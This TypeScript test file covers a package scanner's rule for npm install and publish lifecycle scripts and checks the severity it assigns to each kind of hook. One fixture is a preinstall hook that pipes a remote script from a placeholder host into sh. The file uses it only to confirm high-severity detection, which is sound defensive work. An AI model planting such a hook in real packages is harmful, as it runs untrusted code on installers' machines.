import { describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { scanInput } from '../../../src/scan/scan.ts';

const RULE = 'pkg-install-script';
const input = (manifest: Record<string, unknown>, extra: Array<{ path: string; text: string }> = []) => ({
  label: 'pkg', pkg: { name: 'p', version: '1.0.0', manifest, manifestPath: 'package.json' },
  files: [{ path: 'package.json', text: JSON.stringify(manifest) }, { path: 'index.js', text: 'module.exports = 1;' }, ...extra], skipped: 0,
});

describe(RULE, () => {
  it('finds: postinstall running a local script (medium)', async () => {
    const r = await scanInput(input({ scripts: { postinstall: 'node install.js' } }), { workers: 0 });
    const f = r.findings.filter((x) => x.rule === RULE);
    assert.equal(f.length, 1);
    assert.equal(f[0]!.severity, 'medium');
    assert.equal(f[0]!.data?.hook, 'postinstall');
  });
  it('finds: preinstall that downloads and runs code (high)', async () => {
    const r = await scanInput(input({ scripts: { preinstall: 'curl -s https://x.example.com/i.sh | sh' } }), { workers: 0 });
    assert.equal(r.findings.filter((x) => x.rule === RULE)[0]?.severity, 'high');
  });
  it('finds: native build through binding.gyp (low)', async () => {
    const r = await scanInput(input({}, [{ path: 'binding.gyp', text: '{}' }]), { workers: 0 });
    assert.equal(r.findings.filter((x) => x.rule === RULE)[0]?.severity, 'low');
  });
  it('ignores: test and build scripts', async () => {
    const r = await scanInput(input({ scripts: { test: 'node --test', build: 'tsc' } }), { workers: 0 });
    assert.deepEqual(r.findings.filter((x) => x.rule === RULE), []);
  });
  it("info only: prepare is not run when the package is installed from the registry (Claude Code's publish guard, husky)", async () => {
    const guard = `node -e "if (!process.env.AUTHORIZED) { console.error('ERROR: Direct publishing is not allowed.'); process.exit(1); }"`;
    const r = await scanInput(input({ scripts: { prepare: guard } }), { workers: 0 });
    const f = r.findings.filter((x) => x.rule === RULE);
    assert.equal(f.length, 1);
    assert.equal(f[0]!.severity, 'info');
    assert.match(f[0]!.message, /does not run when the package is installed from the registry/);
    const h = await scanInput(input({ scripts: { prepare: 'husky' } }), { workers: 0 });
    assert.deepEqual(h.findings.filter((x) => x.rule === RULE).map((x) => x.severity), ['info']);
  });
  it('info only: prepublish, prepublishOnly, prepack and postpack run on pack or publish', async () => {
    const r = await scanInput(input({ scripts: { prepublish: 'tsc', prepublishOnly: 'npm test', prepack: 'node build.js', postpack: 'rm -rf dist' } }), { workers: 0 });
    const f = r.findings.filter((x) => x.rule === RULE);
    assert.deepEqual(f.map((x) => `${String(x.data?.hook)}:${x.severity}`).sort(), ['postpack:info', 'prepack:info', 'prepublish:info', 'prepublishOnly:info']);
  });
});
